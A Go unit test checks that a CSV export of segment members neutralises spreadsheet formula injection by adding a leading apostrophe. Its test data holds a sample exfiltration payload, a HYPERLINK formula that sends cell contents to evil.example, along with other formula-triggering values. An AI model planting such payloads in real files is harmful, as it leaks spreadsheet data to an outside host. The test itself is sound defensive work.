package web

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"github.com/journeygraph/journeygraph/journeys"
)

// TestMembersCSVNeutralisesFormulas: person ids that a spreadsheet would run
// as formulas are exported with a leading apostrophe; the CSV still parses.
func TestMembersCSVNeutralisesFormulas(t *testing.T) {
	ids := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1+1", "-2", "@SUM(A1)", "\tx", "\rx", "u1"}
	f := &fakeSegments{segs: map[string]journeys.Segment{"vip": {Name: "vip"}}}
	for _, id := range ids {
		f.members = append(f.members, journeys.Member{Person: id, Version: 1})
	}
	s := New(Config{WriteKeys: []string{"w"}, ReadKeys: []string{"r"}}, &fakeIngester{}, &fakeStore{}, &fakeStore{}, WithSegments(f, f))
	w := do(s, "GET", "/api/v1/segments/vip/members.csv", "Bearer r", "")
	if w.Code != http.StatusOK {
		t.Fatalf("members.csv: %d %s", w.Code, w.Body)
	}
	rows, err := csv.NewReader(strings.NewReader(w.Body.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]bool{}
	for _, r := range rows[1:] {
		got[r[0]] = true
	}
	for _, id := range ids {
		want := "'" + id
		if id == "u1" {
			want = id
		}
		if !got[want] {
			t.Errorf("members.csv lacks %q: %q", want, w.Body.String())
		}
	}
}
